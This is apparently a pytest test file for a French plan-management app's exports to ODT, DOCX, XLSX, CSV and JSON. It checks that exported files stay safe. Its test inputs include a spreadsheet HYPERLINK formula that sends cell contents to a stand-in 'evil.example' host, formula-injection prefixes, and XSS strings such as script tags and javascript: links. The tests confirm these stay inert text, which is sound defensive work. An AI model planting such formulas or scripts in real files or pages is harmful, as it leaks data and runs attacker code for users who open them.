"""Office exports of a plan version: ODT, DOCX, XLSX, CSV and JSON.

The documents are opened with the libraries that read them (odfpy, python-docx,
openpyxl, csv, json) and, for ODT and DOCX, converted to text by LibreOffice: what a
reader's office suite shows. LibreOffice starts once, for both files (a module fixture).
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import html
import io
import json
import os
import shutil
import subprocess
import time
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import docx
import jsonschema
import pytest
from docx.oxml.ns import qn
from flask import Flask
from flask_babel import force_locale
from odf import teletype
from odf import text as odf_text
from odf.opendocument import load as load_odf
from openpyxl import load_workbook
from sqlalchemy import select

from plan.actions.models import ActionStatus
from plan.extensions import db
from plan.versions import services
from plan.versions.models import PlanVersion, VersionStatus
from plan.versions.render import Document, render
from plan.versions.render.json import ExportError, read_export
from plan.versions.render.outline import ListBlock, Paragraph, Table, markdown_blocks
from plan.versions.render.tables import CSV_HEADER, HEADER
from plan.versions.snapshot import build_snapshot, sha256_of
from tests.conftest import ROOT, make_action, make_app, make_plan, make_user
from tests.xss import XSS_PAYLOADS

FIXTURES = Path(__file__).resolve().parent / "fixtures"
SNAPSHOT_FILE = FIXTURES / "snapshot-office.json"
SCHEMA_FILE = ROOT / "plan" / "versions" / "snapshot.schema.json"

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTabulation",
    "\rRetour chariot",
]


def load_snapshot() -> dict[str, Any]:
    snapshot = json.loads(SNAPSHOT_FILE.read_text(encoding="utf-8"))
    # The demo has no company commitment yet: two, so that their tables are written.
    snapshot["companies"] = {
        "commitments": [
            {
                "organization": "Groupe Alpimarché",
                "organization_kind": "company",
                "size_class": "large_group",
                "size_class_label": "Grand groupe",
                "kind": "responsible_purchasing",
                "kind_label": "Achats responsables",
                "action": "1.8",
                "description": "400 kg de légumes par semaine aux Jardins de la Luye.",
                "valuation_cents": 4_500_000,
            },
            {
                "organization": "Menuiserie Arnaud",
                "organization_kind": "company",
                "size_class": "tpe",
                "size_class_label": "Très petite entreprise (TPE, moins de 10 salarié·es)",
                "kind": "skills_sponsorship",
                "kind_label": "Mécénat de compétences",
                "action": None,
                "description": "Deux jours de chantier par an.",
                "valuation_cents": None,
            },
        ],
        "by_size_and_kind": [
            {
                "size_class": "large_group",
                "size_class_label": "Grand groupe",
                "kind": "responsible_purchasing",
                "kind_label": "Achats responsables",
                "organizations": 1,
                "commitments": 1,
                "valuation_cents": 4_500_000,
            },
            {
                "size_class": "tpe",
                "size_class_label": "Très petite entreprise (TPE, moins de 10 salarié·es)",
                "kind": "skills_sponsorship",
                "kind_label": "Mécénat de compétences",
                "organizations": 1,
                "commitments": 1,
                "valuation_cents": 0,
            },
        ],
        "companies": 2,
        "valuation_cents": 4_500_000,
    }
    return snapshot


def document_of(snapshot: dict[str, Any], number: int = 3) -> Document:
    return Document(
        snapshot=snapshot,
        number=number,
        status="adopted",
        status_label="Adoptée",
        date="2024-05-01",
        sha256=sha256_of(snapshot),
    )


def all_actions(snapshot: dict[str, Any]) -> list[dict[str, Any]]:
    return [*snapshot["actions"], *snapshot["annex"]]


def squeeze(text: str) -> str:
    """Spaces of any kind (no-break, narrow no-break, line ends) as one plain space."""
    return " ".join(text.split())


def odt_text(data: bytes) -> str:
    document = load_odf(io.BytesIO(data))
    body = document.text
    return "\n".join(
        teletype.extractText(element)
        for element in body.getElementsByType(odf_text.H) + body.getElementsByType(odf_text.P)
    )


def docx_text(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    lines = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            lines.extend(cell.text for cell in row.cells)
    return "\n".join(lines)


def member(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode("utf-8")


def with_titles(snapshot: dict[str, Any], titles: list[str]) -> dict[str, Any]:
    """The snapshot with one adopted action per title (copies of the demo's actions)."""
    snapshot = copy.deepcopy(snapshot)
    models = all_actions(snapshot)
    actions = []
    for number, title in enumerate(titles, start=1):
        action = copy.deepcopy(models[number % len(models)])
        action["reference"] = f"{action['challenge']}.{100 + number}"
        action["title"] = title
        actions.append(action)
    snapshot["actions"] = actions
    return snapshot


# --------------------------------------------------------------------------- LibreOffice


def soffice() -> str | None:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None and not os.environ.get("CI"):
        pytest.skip("LibreOffice (soffice) is not installed")
    return found


def convert_to_text(paths: list[Path], directory: Path) -> dict[str, str]:
    """Each file as LibreOffice's plain text export, in one LibreOffice run."""
    program = soffice()
    assert program, "LibreOffice (soffice) is needed in CI"
    profile = directory / "profile"
    subprocess.run(  # noqa: S603 - fixed arguments, our own files
        [
            program,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            "txt:Text (encoded):UTF8",
            "--outdir",
            str(directory),
            *map(str, paths),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    return {
        path.name: (directory / f"{path.stem}.txt").read_text(encoding="utf-8-sig")
        for path in paths
    }


@pytest.fixture(scope="module")
def office(database_url: str) -> dict[str, Any]:
    """The demo plan as ODT and DOCX."""
    app = make_app(database_url)
    snapshot = load_snapshot()
    document = document_of(snapshot)
    with app.app_context():
        return {
            "snapshot": snapshot,
            "document": document,
            "odt": render(document, "odt"),
            "docx": render(document, "docx"),
        }


@pytest.fixture(scope="module")
def converted(office: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What LibreOffice reads in the ODT and the DOCX, as plain text."""
    directory = tmp_path_factory.mktemp("office")
    odt_path = directory / "plan-odt.odt"
    docx_path = directory / "plan-docx.docx"
    odt_path.write_bytes(office["odt"])
    docx_path.write_bytes(office["docx"])
    started = time.perf_counter()
    texts = convert_to_text([odt_path, docx_path], directory)
    print(f"LibreOffice: two conversions in {time.perf_counter() - started:.1f} s")
    return {"odt": texts[odt_path.name], "docx": texts[docx_path.name]}


def expected_texts(office: dict[str, Any]) -> list[str]:
    snapshot = office["snapshot"]
    adopted = snapshot["actions"][0]
    return [
        snapshot["plan"]["title"],
        adopted["title"],
        adopted["result"]["sentence"],
        snapshot["annex"][0]["title"],
        "Version 3",
        office["document"].short_hash,
    ]


# --------------------------------------------------------------------------- ODT


def test_odt_has_headings_contents_and_the_actions(office: dict[str, Any]) -> None:
    document = load_odf(io.BytesIO(office["odt"]))
    headings = document.text.getElementsByType(odf_text.H)
    styles = {(h.getAttribute("outlinelevel"), h.getAttribute("stylename")) for h in headings}
    assert {("1", "Heading_20_1"), ("2", "Heading_20_2"), ("3", "Heading_20_3")} <= styles
    titles = [teletype.extractText(h) for h in headings]
    action = office["snapshot"]["actions"][0]
    assert f"Action {action['reference']} — {action['title']}" in titles
    assert "Préparation au label French Impact" in titles

    (contents,) = document.text.getElementsByType(odf_text.TableOfContent)
    source = contents.getElementsByType(odf_text.TableOfContentSource)[0]
    assert source.getAttribute("outlinelevel") == "3"
    entries = [teletype.extractText(p) for p in contents.getElementsByType(odf_text.P)]
    assert entries[0] == "Sommaire"
    assert f"Action {action['reference']} — {action['title']}" in entries
    assert all(title in entries for title in titles if title.startswith("Défi "))

    text = odt_text(office["odt"])
    assert action["result"]["sentence"] in text
    assert action["fiche"]["lead_contact"] in text
    # Markdown lists became lists, their markers gone.
    first_aim = action["fiche"]["objectives_text"].splitlines()[0].removeprefix("- ")
    assert first_aim in text
    assert f"- {first_aim}" not in text
    assert "694\u202f000\u00a0€" in text
    assert "Groupe Alpimarché" in text
    assert "Achats responsables" in text

    styles_xml = member(office["odt"], "styles.xml")
    assert "text:page-number" in styles_xml
    assert "text:page-count" in styles_xml
    assert office["document"].short_hash in styles_xml
    meta = member(office["odt"], "meta.xml")
    assert "2024-05-01T00:00:00" in meta
    assert office["document"].sha256 in meta


def test_libreoffice_reads_the_odt(office: dict[str, Any], converted: dict[str, str]) -> None:
    text = squeeze(converted["odt"])
    for expected in expected_texts(office):
        assert squeeze(expected) in text, expected


# --------------------------------------------------------------------------- DOCX


def test_docx_has_heading_styles_a_contents_field_and_tables(office: dict[str, Any]) -> None:
    document = docx.Document(io.BytesIO(office["docx"]))
    styles = {p.style.name for p in document.paragraphs}
    assert {"Heading 1", "Heading 2", "Heading 3", "Title"} <= styles
    headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
    action = office["snapshot"]["actions"][0]
    assert f"Action {action['reference']} — {action['title']}" in headings

    body = document.element.body
    instructions = [e.text for e in body.iter(qn("w:instrText"))]
    assert any(i.strip().startswith('TOC \\o "1-3"') for i in instructions)
    kinds = [e.get(qn("w:fldCharType")) for e in body.iter(qn("w:fldChar"))]
    assert kinds.count("begin") == kinds.count("end") >= 1
    toc = [p.text for p in document.paragraphs if p.style.name.lower().startswith("toc ")]
    assert f"Action {action['reference']} — {action['title']}" in toc
    settings = document.settings.element
    assert settings.find(qn("w:updateFields")).get(qn("w:val")) == "true"

    tables = document.tables
    assert len(tables) > 10
    headers = [[cell.text for cell in table.rows[0].cells] for table in tables]
    assert ["Financeur", "Nature", "Statut", "Montant"] in headers
    text = docx_text(office["docx"])
    assert action["result"]["sentence"] in text
    assert "694\u202f000\u00a0€" in text

    footer = document.sections[0].footer
    footer_xml = footer._element.xml
    assert office["document"].short_hash in footer.paragraphs[0].text
    assert "PAGE" in footer_xml
    assert "NUMPAGES" in footer_xml
    properties = document.core_properties
    assert properties.title == office["snapshot"]["plan"]["title"]
    assert properties.created == dt.datetime(2024, 5, 1, tzinfo=dt.UTC)
    assert properties.identifier == office["document"].sha256
    assert properties.language == "fr-FR"


def test_libreoffice_reads_the_docx(office: dict[str, Any], converted: dict[str, str]) -> None:
    text = squeeze(converted["docx"])
    for expected in expected_texts(office):
        assert squeeze(expected) in text, expected


def test_the_documents_are_french_whatever_the_reader_reads(app: Flask) -> None:
    snapshot = load_snapshot()
    document = Document(snapshot, 2, "validated", "Validated", "2024-05-01", sha256_of(snapshot))
    with force_locale("en"):
        odt, docx_bytes = render(document, "odt"), render(document, "docx")
    for text in (odt_text(odt), docx_text(docx_bytes)):
        assert "Version 2 — Validée — 1 mai 2024" in text
        assert "694\u202f000\u00a0€" in text
        assert "Validated" not in text


# --------------------------------------------------------------------------- people's text


def test_markdown_becomes_paragraphs_lists_and_runs(app: Flask) -> None:
    blocks = markdown_blocks(
        "Un **texte** en *italique*.\n\n- premier\n- second\n  1. sous-étape\n\n"
        "3. trois\n4. quatre\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[site](https://example.org) et [piège](javascript:alert(1))"
    )
    paragraph, bullets, numbers, table, links = blocks
    assert isinstance(paragraph, Paragraph)
    assert [(r.text, r.bold, r.italic) for r in paragraph.runs] == [
        ("Un ", False, False),
        ("texte", True, False),
        (" en ", False, False),
        ("italique", False, True),
        (".", False, False),
    ]
    assert isinstance(bullets, ListBlock)
    assert not bullets.ordered
    assert bullets.items[0][0].runs[0].text == "premier"
    nested = bullets.items[1][1]
    assert isinstance(nested, ListBlock)
    assert nested.ordered
    assert isinstance(numbers, ListBlock)
    assert numbers.ordered
    assert numbers.start == 3
    assert isinstance(table, Table)
    assert table.header == ["a", "b"]
    assert table.rows == [["1", "2"]]
    link_text = "".join(r.text for r in links.runs)
    assert link_text == "site (https://example.org) et [piège](javascript:alert(1))"


def test_injected_text_stays_literal_text(app: Flask) -> None:
    snapshot = with_titles(load_snapshot(), XSS_PAYLOADS)
    literal_in_markdown = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[cliquez](javascript:alert(1))",
        '<a href="javascript:alert(1)">cliquez</a>',
        "{{7*7}}",
    ]
    for action, payload in zip(snapshot["actions"], XSS_PAYLOADS, strict=True):
        action["fiche"]["lead_contact"] = payload
        action["fiche"]["funding_lines"][0]["funder"] = payload
    for action, payload in zip(snapshot["actions"], literal_in_markdown, strict=False):
        action["fiche"]["context"] = payload
    document = document_of(snapshot)
    odt = render(document, "odt")
    docx_bytes = render(document, "docx")
    for text in (odt_text(odt), docx_text(docx_bytes)):
        for payload in XSS_PAYLOADS:
            assert f"— {payload}" in text, payload  # the title, in its heading
            assert f"Porteur\u00a0: Udess 05 — {payload}" in text or payload in text
        for payload in literal_in_markdown:
            assert f"\n{payload}\n" in text, payload
    # Nothing became markup: in the XML, the payloads are escaped text.
    assert "<script" not in member(odt, "content.xml")
    assert "<script" not in member(docx_bytes, "word/document.xml")


# --------------------------------------------------------------------------- XLSX and CSV


def injection_snapshot() -> dict[str, Any]:
    snapshot = load_snapshot()
    for action, title in zip(all_actions(snapshot), INJECTIONS, strict=False):
        action["title"] = title
    snapshot["annex"][-1]["fiche"]["lead_organization"] = "=1+1"
    return snapshot


def test_xlsx_has_one_row_per_action_numbers_and_no_formula(app: Flask) -> None:
    snapshot = injection_snapshot()
    workbook = load_workbook(io.BytesIO(render(document_of(snapshot), "xlsx")))
    assert workbook.sheetnames == ["Actions", "Version"]
    assert workbook.active.title == "Actions"  # what a spreadsheet opens on
    sheet = workbook["Actions"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width > 30
    actions = all_actions(snapshot)
    assert len(rows) == 1 + len(actions)
    assert [row[0] for row in rows[1:]] == [a["reference"] for a in actions]
    assert [row[3] for row in rows[1:]] == [a["status_label"] for a in actions]

    first = sheet[2]
    budget, funding = first[7], first[8]
    assert isinstance(budget.value, int | float)
    assert isinstance(funding.value, int | float)
    assert Decimal(str(budget.value)) == Decimal(actions[0]["fiche"]["budget_total_cents"]) / 100
    assert "€" in budget.number_format
    assert isinstance(first[5].value, int)

    for row, title in zip(sheet.iter_rows(min_row=2), INJECTIONS, strict=False):
        cell = row[1]
        assert cell.data_type == "s", title
        assert cell.value == f"'{title}", title
    lead = sheet.cell(row=sheet.max_row, column=5)
    assert lead.value == "'=1+1"
    assert lead.data_type == "s"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def version_sheet(data: bytes) -> dict[str, Any]:
    """The XLSX's « Version » sheet: label → value."""
    sheet = load_workbook(io.BytesIO(data))["Version"]
    return {label: value for label, value in sheet.iter_rows(values_only=True) if value}


def test_xlsx_says_which_version_it_holds(app: Flask) -> None:
    snapshot = load_snapshot()
    snapshot["plan"]["title"] = "=Plan « formule »"
    data = render(document_of(snapshot), "xlsx")
    assert version_sheet(data) == {
        "Plan": "'=Plan « formule »",
        "Version": 3,
        "Statut": "Adoptée",
        "Date": dt.datetime(2024, 5, 1),
        "Empreinte SHA-256": sha256_of(snapshot),
    }
    sheet = load_workbook(io.BytesIO(data))["Version"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["B1"].data_type == "s"
    assert sheet["B4"].number_format == "DD/MM/YYYY"
    assert "empreinte SHA-256 est calculée" in sheet["A7"].value


def test_csv_has_one_row_per_action_and_no_formula(app: Flask) -> None:
    snapshot = injection_snapshot()
    data = render(document_of(snapshot), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == CSV_HEADER
    assert rows[0][: len(HEADER)] == HEADER  # the XLSX's columns, then the version's
    assert {len(row) for row in rows} == {len(HEADER) + 2}
    assert {tuple(row[-2:]) for row in rows[1:]} == {("3", sha256_of(snapshot))}
    actions = all_actions(snapshot)
    assert len(rows) == 1 + len(actions)
    assert [row[0] for row in rows[1:]] == [a["reference"] for a in actions]
    cents = actions[0]["fiche"]["budget_total_cents"]
    assert rows[1][7] == f"{cents // 100},{cents % 100:02d}"
    assert rows[1][5] == str(actions[0]["fiche"]["first_year"])
    for row, title in zip(rows[1:], INJECTIONS, strict=False):
        assert row[1] == f"'{title}", title
    assert rows[-1][4] == "'=1+1"
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_spreadsheets_carry_the_hash_stored_with_the_version(app: Flask) -> None:
    plan = make_plan("tableur", challenges=3)
    coordinator = make_user()
    action = make_action(plan, coordinator, "Navette solidaire")
    action.status = ActionStatus.ADOPTED
    db.session.commit()
    version = services.consolidate(plan, coordinator)
    services.publish(version, coordinator, VersionStatus.VALIDATED)
    db.session.commit()
    db.session.expire_all()
    stored = db.session.scalar(select(PlanVersion).where(PlanVersion.plan_id == plan.id))
    assert len(stored.sha256) == 64
    visitor = app.test_client()
    base = "/plans/tableur/versions/1/download"

    response = visitor.get(f"{base}/csv")
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0][-2:] == ["Version", "Empreinte SHA-256"]
    assert [row[-2:] for row in rows[1:]] == [["1", stored.sha256]]

    response = visitor.get(f"{base}/xlsx")
    assert response.status_code == 200
    assert version_sheet(response.get_data()) == {
        "Plan": "Plan tableur",
        "Version": 1,
        "Statut": "Validée",
        "Date": dt.datetime.combine(stored.published_at.date(), dt.time()),
        "Empreinte SHA-256": stored.sha256,
    }


# --------------------------------------------------------------------------- JSON


@pytest.fixture(scope="module")
def validator() -> jsonschema.Draft202012Validator:
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )


def test_json_validates_round_trips_and_carries_its_hash(
    app: Flask, validator: jsonschema.Draft202012Validator
) -> None:
    snapshot = load_snapshot()
    document = document_of(snapshot)
    data = render(document, "json")
    exported = json.loads(data.decode("utf-8"))
    validator.validate(exported)
    assert exported["format"] == "capcommun.plan-version"
    assert exported["version"] == {
        "number": 3,
        "status": "adopted",
        "date": "2024-05-01",
        "sha256": sha256_of(snapshot),
    }
    assert exported["snapshot"] == snapshot
    assert sha256_of(exported["snapshot"]) == exported["version"]["sha256"]
    assert read_export(data)["snapshot"] == snapshot
    # Canonical: keys sorted, UTF-8 as is, one final newline.
    assert (
        data == (json.dumps(exported, ensure_ascii=False, sort_keys=True, indent=1) + "\n").encode()
    )
    assert "Buëch".encode() in data

    exported["snapshot"]["plan"]["title"] = "Autre titre"
    with pytest.raises(ExportError):
        read_export(json.dumps(exported))
    with pytest.raises(ExportError):
        render(Document(snapshot, 3, "adopted", "Adoptée", "2024-05-01", "0" * 64), "json")


def test_the_schema_rejects_floats_and_missing_keys(
    validator: jsonschema.Draft202012Validator,
) -> None:
    snapshot = load_snapshot()
    export = {
        "format": "capcommun.plan-version",
        "schema_version": 1,
        "version": {"number": 1, "status": "draft", "date": "2024-05-01", "sha256": "a" * 64},
        "snapshot": snapshot,
    }
    validator.validate(export)
    broken = copy.deepcopy(export)
    broken["snapshot"]["actions"][0]["fiche"]["budget_lines"][0]["amount_cents"] = 12.5
    assert not validator.is_valid(broken)
    broken = copy.deepcopy(export)
    del broken["snapshot"]["funding"]["years"]
    assert not validator.is_valid(broken)
    broken = copy.deepcopy(export)
    broken["snapshot"]["plan"]["unknown"] = 1
    assert not validator.is_valid(broken)


def test_snapshots_built_by_the_app_follow_the_schema(
    app: Flask, validator: jsonschema.Draft202012Validator
) -> None:
    plan = make_plan("schema", challenges=3)
    author = make_user()
    action = make_action(
        plan,
        author,
        zone_ids=[plan.zones[0].id],
        budget_lines=[{"year": 2024, "kind": "operating", "amount_cents": 1_250_000}],
        funding_lines=[
            {"funder": "Région", "nature": "subsidy", "status": "secured", "amount_cents": 50_000}
        ],
        indicators=[
            {
                "name": "Bénéficiaires",
                "unit": "pers.",
                "kind": "output",
                "baseline": "",
                "target": "40",
            }
        ],
    )
    action.status = ActionStatus.ADOPTED
    db.session.commit()
    snapshot = build_snapshot(plan, "Une **introduction**.", "- Première version")
    export = json.loads(render(document_of(snapshot, 1), "json"))
    validator.validate(export)
    demo = FIXTURES / "snapshot-demo.json"
    if demo.exists():  # the demo plan's snapshot, kept by the versions tests
        validator.validate({**export, "snapshot": json.loads(demo.read_text(encoding="utf-8"))})


# --------------------------------------------------------------------------- determinism


def test_the_same_version_gives_the_same_documents(app: Flask) -> None:
    document = document_of(load_snapshot())
    again = document_of(load_snapshot())
    odt, odt_again = render(document, "odt"), render(again, "odt")
    assert odt_text(odt) == odt_text(odt_again)
    docx_bytes, docx_again = render(document, "docx"), render(again, "docx")
    assert docx_text(docx_bytes) == docx_text(docx_again)
    # Dates inside come from the version, not from the clock: the files are identical.
    assert odt == odt_again
    assert docx_bytes == docx_again
    for fmt in ("csv", "json", "xlsx"):
        assert render(document, fmt) == render(again, fmt), fmt


# --------------------------------------------------------------------------- a large plan


@pytest.fixture
def large_snapshot() -> dict[str, Any]:
    snapshot = load_snapshot()
    models = all_actions(snapshot)
    actions, annex = [], []
    for number in range(300):
        action = copy.deepcopy(models[number % len(models)])
        action["reference"] = f"{action['challenge']}.{100 + number}"
        action["title"] = f"{action['title']} (n° {number})"
        (annex if number % 6 == 5 else actions).append(action)
    snapshot["actions"], snapshot["annex"] = actions, annex
    return snapshot


def test_a_plan_of_300_actions(
    app: Flask, large_snapshot: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    document = document_of(large_snapshot)
    outputs: dict[str, bytes] = {}
    times: dict[str, float] = {}
    for fmt in ("odt", "docx", "xlsx", "csv", "json"):
        started = time.perf_counter()
        outputs[fmt] = render(document, fmt)
        times[fmt] = time.perf_counter() - started
    with capsys.disabled():
        print(
            "\n300 actions: "
            + ", ".join(
                f"{fmt} {seconds:.2f} s ({len(outputs[fmt]) // 1024} Kio)"
                for fmt, seconds in times.items()
            )
        )
    last = large_snapshot["actions"][-1]["title"]
    assert html.escape(last, quote=False) in member(outputs["odt"], "content.xml")
    body = docx.Document(io.BytesIO(outputs["docx"])).element.body
    headings = [
        p
        for p in body.iter(qn("w:p"))
        if p.style == "Heading3"
        and "".join(t.text for t in p.iter(qn("w:t"))).startswith("Action ")
    ]
    assert len(headings) == 300
    sheet = load_workbook(io.BytesIO(outputs["xlsx"]))["Actions"]
    assert sheet.max_row == 301
    rows = list(csv.reader(io.StringIO(outputs["csv"].decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 301
    assert len(json.loads(outputs["json"])["snapshot"]["actions"]) == 250
